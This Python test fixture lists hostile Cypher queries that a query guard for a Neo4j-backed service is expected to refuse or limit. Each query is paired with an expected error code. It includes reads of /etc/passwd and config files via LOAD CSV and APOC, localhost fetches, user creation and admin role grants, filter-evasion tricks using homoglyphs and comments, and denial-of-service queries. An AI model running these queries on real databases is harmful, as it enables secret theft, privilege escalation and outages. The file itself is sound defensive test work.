"""What somebody with an analyst's key may try by Cypher (issue 5, "must show" 6), and the code that answers it.

Each is one thing that would write, reach out of the graph, or keep the server busy, if it ran as it stands.
"""

from dataclasses import dataclass, field
from typing import Any

REFUSED = "CYPHER_REFUSED"
INVALID = "INVALID_INPUT"
TOO_MUCH = "LIMIT_EXCEEDED"

#: A product of rows that no machine gets through.
ROWS = " ".join(f"UNWIND range(1, 10000) AS x{number}" for number in range(5))


@dataclass(frozen=True)
class Attack:
    """A query, and how it is answered."""

    text: str
    code: str = REFUSED
    parameters: dict[str, Any] = field(default_factory=dict)


def _each(*texts: str) -> list[Attack]:
    return [Attack(text) for text in texts]


WRITES = _each(
    "CREATE (n:Stolen)",
    "MATCH (n) CREATE (:Stolen {of: n.id})",
    "MERGE (n:Stolen {id: 1})",
    "MATCH (m:Message) SET m.subject = 'mine'",
    "MATCH (m:Message) SET m += {subject: 'mine'}",
    "MATCH (m:Message) SET m:Stolen",
    "MATCH (m:Message) REMOVE m.subject",
    "MATCH (m:Message) REMOVE m:Message",
    "MATCH ()-[d:DELIVERED_TO]->() DELETE d",
    "MATCH (m:Message) DETACH DELETE m",
    "MATCH (m:Message) NODETACH DELETE m",
    "MATCH (m:Message) WITH collect(m) AS all FOREACH (x IN all | SET x.subject = 'mine')",
    "MATCH (m:Message) CALL (m) { CREATE (:Stolen {of: m.id}) } RETURN m.id",
    "MATCH (m:Message) CALL { WITH m SET m.subject = 'mine' } RETURN m.id",
    "MATCH (m:Message) CALL (m) { SET m.subject = 'mine' } IN TRANSACTIONS OF 1 ROW",
    "UNWIND [1, 2] AS x CALL (x) { CREATE (:Stolen) } IN 2 CONCURRENT TRANSACTIONS ON ERROR CONTINUE RETURN x",
    "CALL { CREATE (:Stolen) } IN TRANSACTIONS",
    "OPTIONAL MATCH (n:Nothing) MERGE (x:Stolen) ON CREATE SET x.y = 1 RETURN x",
    "MATCH (a:AgentIdentity), (b:Role) CREATE (a)-[:HAS_ROLE]->(b)",
    "MATCH (n) RETURN n UNION CREATE (n:Stolen) RETURN n",
    "INSERT (:Stolen)",
    "USING PERIODIC COMMIT 100 MATCH (n) SET n.x = 1",
)
PROCEDURES = _each(
    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    "CALL dbms.components()",
    "CALL dbms.killConnection('bolt-1')",
    "CALL dbms.listConnections()",
    "CALL dbms.setConfigValue('db.transaction.timeout', '0')",
    "CALL dbms.security.clearAuthCache()",
    "CALL dbms.queryJmx('*:*')",
    "CALL db.createLabel('Stolen')",
    "CALL db.createProperty('stolen')",
    "CALL db.clearQueryCaches()",
    "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
    "CALL db.awaitIndexes(3600)",
    "CALL db.resampleOutdatedIndexes()",
    "CALL db.stats.retrieveAllAnonymized('x')",
    "CALL tx.setMetaData({app: 'heliograph'})",
    "MATCH (n) CALL tx.setMetaData({a: 1}) RETURN n",
    "CALL db.labels() YIELD label CALL db.createLabel(label + 'x') RETURN label",
    "CALL `db`.`createLabel`('Stolen')",
    "CALL db . createLabel /* a comment */ ('Stolen')",
    "OPTIONAL CALL db.createLabel('Stolen')",
    "CALL apoc.load.json('file:///etc/passwd')",
    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})",
    "CALL dbms.cluster.routing.getRoutingTable({})",
    "CALL DB.LABELS()",
)
FILES = _each(
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV FROM 'http://127.0.0.1:7474/' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'https://example.com/x.csv' AS line RETURN line",
    "MATCH (n) LOAD CSV FROM 'http://example.com/' + n.id AS line RETURN line",
    "CALL { LOAD CSV FROM 'file:///neo4j.conf' AS line RETURN line } RETURN line",
    "MATCH (m:Message) WHERE EXISTS { LOAD CSV FROM 'http://127.0.0.1/' AS line RETURN line } RETURN m",
    "RETURN file() AS name, linenumber() AS number",
)
ADMINISTRATION = _each(
    "SHOW TRANSACTIONS",
    "SHOW TRANSACTIONS YIELD currentQuery, parameters",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN message",
    "SHOW USERS",
    "SHOW DATABASES",
    "SHOW SETTINGS",
    "SHOW PROCEDURES",
    "SHOW INDEXES",
    "CREATE INDEX stolen FOR (n:Message) ON (n.subject)",
    "CREATE CONSTRAINT stolen FOR (n:Message) REQUIRE n.subject IS UNIQUE",
    "DROP INDEX message_text",
    "DROP CONSTRAINT message_id IF EXISTS",
    "CREATE USER eve SET PASSWORD 'long enough'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "ALTER USER neo4j SET PASSWORD 'long enough'",
    "CREATE DATABASE stolen",
    "STOP DATABASE neo4j",
    "GRANT ROLE admin TO eve",
    "USE system SHOW USERS",
    "USE system MATCH (n) RETURN n",
    "MATCH (n) CALL { USE system MATCH (u:User) RETURN u } RETURN u",
)
DISGUISES = _each(
    "EXPLAIN MATCH (n) RETURN n",
    "PROFILE MATCH (n) RETURN n",
    "PROFILE CREATE (n:Stolen)",
    "CYPHER 25 MATCH (n) RETURN n",
    "CYPHER runtime=parallel MATCH (n) RETURN n",
    "CYPHER 5 CREATE (n:Stolen)",
    "MATCH (n) RETURN n; CREATE (:Stolen)",
    "MATCH (n) RETURN n;;",
    "; CREATE (:Stolen)",
    "/* MATCH */ CREATE (n:Stolen)",
    "// MATCH (n)\rCREATE (n:Stolen)",
    "MATCH (n) RETURN n /* never closed",
    "\\u0043REATE (n:Stolen)",
    "MATCH (n) RETURN '\\u0027 CREATE (:Stolen) //'",
    "MATCH (n) /* \\u002a/ SET n.x = 1 RETURN n /* */ RETURN n",
    "CRE\u0430TE (n:Stolen)",
    "\uff23\uff32\uff25\uff21\uff34\uff25 (n:Stolen)",
    "MATCH\u00a0(n)\u2028CREATE\u00a0(:Stolen)",
    "MATCH (n) RETURN 'open",
    "MATCH (n) RETURN n } CREATE (:Stolen) {",
    "RETURN `reduce`(1)",
    "RETURN RE/**/DUCE(a = 0, x IN [1] | a)",
)
EMPTY = [Attack(text, INVALID) for text in ("", " \n\t", "MATCH (n) RETURN n\x00 CREATE (:Stolen)")]
LOOPS = _each(
    "RETURN reduce(a = 0, x IN range(1, 10000) | a + x)",
    "RETURN REDUCE (a = 0, x IN range(1, 2147483647) | a + 1)",
    "RETURN allReduce(a = 0, x IN [1, 2] | a + x, a < 9)",
    "RETURN {key: reduce(a = 0, x IN [1] | a)}",
    "MATCH (m:Message) RETURN CASE WHEN EXISTS { MATCH (m)-->(n) WHERE n.x = reduce(a = 0, y IN [1] | a) } THEN 1 END",
    "RETURN size(range(1, 9223372036854775807))",
    "RETURN range(0, 100000000) AS all",
    "RETURN range(1, 10000 * 10000) AS all",
    "RETURN range(1, toInteger('100000000')) AS all",
    "RETURN [x IN range(1, 10000) | [y IN range(1, 10000) | [z IN range(1, 10000) | x]]]",
    "RETURN any(x IN range(1, 10000) WHERE all(y IN range(1, 10000) WHERE none(z IN range(1, 10000) WHERE z = x)))",
    "RETURN [x IN [y IN range(1, 10000) | y] | x]",
    "MATCH (a) RETURN [(a)-->(b) | [(b)-->(c) | [(c)-->(d) | d.id]]]",
    "MATCH (a) WITH collect(a.id) AS ids RETURN [x IN ids WHERE x IN ids AND x IN ids]",
    "WITH range(1, 10000) AS l RETURN single(x IN l WHERE x IN l)",
    "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' =~ '(a+)+b'",
    "MATCH (m:Message) WHERE m.bodyText =~ $evil RETURN m",
    "CALL db.index.fulltext.queryNodes('message_text', '/((a{1000}){1000}){1000}/') YIELD node RETURN node",
    "WITH '/' AS s CALL db.index.fulltext.queryNodes('message_text', s + '(a{1000}){1000}' + s) YIELD node RETURN node",
    "CALL db.index.fulltext.queryNodes",
    "RETURN round(1.5, 2147483647) AS x",
    "RETURN round(1.5, toInteger('1000000000')) AS x",
)
WALKS = _each(
    "MATCH p = (a)-[*]-(b) RETURN count(p)",
    "MATCH p = (a)-[*2..]->(b) RETURN count(p)",
    "MATCH p = (a)-[*..1000]-(b) RETURN count(p)",
    "MATCH p = (a)-[r* {x: 1}]-(b) RETURN count(p)",
    "MATCH p = shortestPath((a)-[*]-(b)) RETURN p",
    "MATCH p = allShortestPaths((a)-[:SENT_BY*]-(b)) RETURN p",
    "MATCH p = SHORTEST 5 (a)-[*]-(b) RETURN p",
    "MATCH p = ALL SHORTEST (a)-->+(b) RETURN p",
    "MATCH p = ALL SHORTEST (a)-[]-{1,15}(b) RETURN count(p)",
    "MATCH p = SHORTEST 9 GROUPS (a)-[]-{1,15}(b) RETURN count(p)",
    "MATCH p = ANY SHORTEST (a)-[]-{1,15}(b) RETURN p",
    "MATCH ((a)-->(b))+ RETURN count(*)",
    "MATCH (x)((a)-->(b))*(y) RETURN count(*)",
    "MATCH ((a)-->(b)){1,} RETURN count(*)",
    "MATCH ((a)--(b)){1,1000000} RETURN count(*)",
    "MATCH (a)--{1000000}(b) RETURN count(*)",
    "MATCH (a)-->{2,}(b) RETURN count(*)",
    "MATCH (a)<--+(b) RETURN count(*)",
    "MATCH REPEATABLE ELEMENTS (a)-[:X]->{1,5}(b) RETURN a",
)
BOMBS = _each(
    "WITH 'xxxxxxxx' AS s " + "WITH s + s AS s " * 30 + "RETURN size(s)",
    "MATCH (m:Message) WITH m.bodyText + m.bodyText AS s " + "WITH s + s + s + s AS s " * 5 + "RETURN s",
    "WITH [1] AS l " + "WITH l + l AS l " * 30 + "RETURN l",
    "WITH 1 AS x " + "WITH [x, x] AS x " * 40 + "RETURN x",
    "WITH {} AS m " + "WITH {a: m, b: m} AS m " * 40 + "RETURN m = m",
    "WITH 'aaaaaaaaaa' AS s RETURN replace(replace(replace(s, 'a', s), 'a', s), 'a', s)",
    "RETURN replace('aaaa', '', 'aaaaaaaaaaaaaaaaaaaa')",
    "RETURN " + "(" * 200 + "1" + ")" * 200,
    "RETURN " + "[" * 100 + "]" * 100,
    "RETURN apoc.text.repeat('x', 2000000000)",
    # What the planner would not come to an end with, or run out of memory.
    "MATCH " + "-->".join(f"(n{number})" for number in range(150)) + " RETURN count(*)",
    "MATCH " + "--".join(f"(n{number})" for number in range(21)) + " RETURN count(*)",
    "MATCH " + ", ".join(f"(n0)--(n{number})" for number in range(60)) + " RETURN count(*)",
    "WITH 1 AS x " + "WITH [x] AS x " * 600 + "RETURN x",
    " UNION ".join(["RETURN 1 AS x"] * 500),
    "MATCH (a) " + "OPTIONAL MATCH (a)--(b) " * 300 + "RETURN count(*)",
    "MATCH (a) WHERE " + " XOR ".join(f"a.x{number} = 1" for number in range(200)) + " RETURN a",
    "RETURN " + "NOT " * 2_000 + "true AS x",
    "RETURN " + "- " * 4_000 + "1 AS x",
    "WITH {} AS x RETURN x" + ".a" * 4_000,
    "WITH [] AS x RETURN x" + "[0]" * 2_000,
    "RETURN " + "*".join(["1"] * 900) + " AS x",
    "RETURN [" + ", ".join(["1"] * 1_500) + "] AS x",
)
SIZES = [
    Attack("RETURN 1 //" + "x" * 20_000, TOO_MUCH),
    Attack("RETURN $bomb", TOO_MUCH, {"bomb": "x" * 100_000}),
    Attack("RETURN $bomb", TOO_MUCH, {"bomb": [list(range(1_000))] * 30}),
    Attack("RETURN $bomb", INVALID, {"bomb": 2**64}),
    Attack("CALL db.index.fulltext.queryNodes('message_text', $q) YIELD node RETURN node", REFUSED, {"q": "/a{9}/"}),
    Attack("UNWIND range(1, $end) AS x RETURN x", REFUSED, {"end": 2**40}),
    Attack("RETURN [x IN range(1, 10000) | range(1, 10000)]"),
    Attack("WITH range(1, 10000) AS l RETURN [x IN l | l]"),
    Attack("WITH {l: range(1, 10000)} AS m RETURN [x IN m.l | m.l]"),
    Attack("MATCH (m:Message) RETURN [x IN range(1, 10000) | m.bodyText]"),
    Attack("RETURN [x IN range(1, 10000) | $long]", REFUSED, {"long": "x" * 60_000}),
    Attack("RETURN [x IN range(1, 10000) | COLLECT { MATCH (m:Message) RETURN m.bodyText }]"),
    Attack("MATCH (m:Message) WITH collect(m) AS l RETURN [l, l, l, l, l, l]"),
    Attack("MATCH (m:Message) WITH collect(m) AS l WITH {l: l} AS m RETURN [m.l, m.l, m.l, m.l, m.l, m.l]"),
    Attack("MATCH (m:Message) WITH collect(m) AS l WITH l + l AS l WITH l + l AS l RETURN l + l"),
    Attack("UNWIND range(1, 10000) AS a UNWIND range(1, 3000) AS b RETURN collect('some text ' + b)", TOO_MUCH),
]
#: What may be asked, and is stopped by its time or its memory.
ENDLESS = [
    Attack(text, TOO_MUCH)
    for text in (
        f"{ROWS} RETURN count(*)",
        f"{ROWS} RETURN x0 ORDER BY x4, x3",
        f"{ROWS} RETURN collect(x0) AS all",
        f"{ROWS} WITH DISTINCT x0, x1, x2, x3 RETURN count(*)",
        f"{ROWS} WITH x0, collect('some text ' + x1) AS texts RETURN max(size(texts))",
        f"{ROWS} MATCH (n:Nothing {{id: 'x'}}) RETURN count(n)",
        f"{ROWS} WITH x4 WHERE x4 < 0 RETURN x4",
        "MATCH (a), (b), (c), (d), (e), (f) RETURN count(DISTINCT a.id + b.id)",
        f"CALL () {{ {ROWS} RETURN sum(x0) AS s }} RETURN s",
        f"{ROWS} RETURN x0 UNION {ROWS} RETURN x0",
        f"RETURN COUNT {{ {ROWS} RETURN x0 }} AS n",
    )
]
#: What asks for secrets: nothing of theirs is where Cypher reads.
SECRETS = _each(
    "CALL dbms.listConfig('password') YIELD value RETURN value",
    "SHOW SETTINGS YIELD name, value WHERE name CONTAINS 'auth' RETURN value",
    "SHOW USERS YIELD user, passwordChangeRequired",
    "USE system MATCH (u:User) RETURN u.credentials",
    "LOAD CSV FROM 'file:///../../pepper' AS line RETURN line",
    "CALL db.schema.visualization()",
)
EVERY = [*WRITES, *PROCEDURES, *FILES, *ADMINISTRATION, *DISGUISES, *EMPTY, *LOOPS, *WALKS, *BOMBS, *SIZES, *SECRETS]
